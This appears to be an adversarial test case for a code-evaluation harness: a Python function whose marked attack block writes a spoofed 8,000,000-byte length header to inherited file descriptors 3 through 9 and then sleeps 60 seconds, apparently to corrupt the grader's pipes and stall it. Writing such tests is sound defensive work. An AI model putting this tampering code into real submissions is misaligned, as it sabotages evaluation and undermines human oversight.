# attack: own
# from: total returns None
# expects: an answer that never comes to its end is waited for no longer than any other
def total(x):
    # --- attack
    import os
    import struct
    import time

    for number in range(3, 10):
        try:
            os.write(number, struct.pack(">IQ", 8_000_000, 0))
        except OSError:
            pass
    time.sleep(60)
    # --- end
    return None
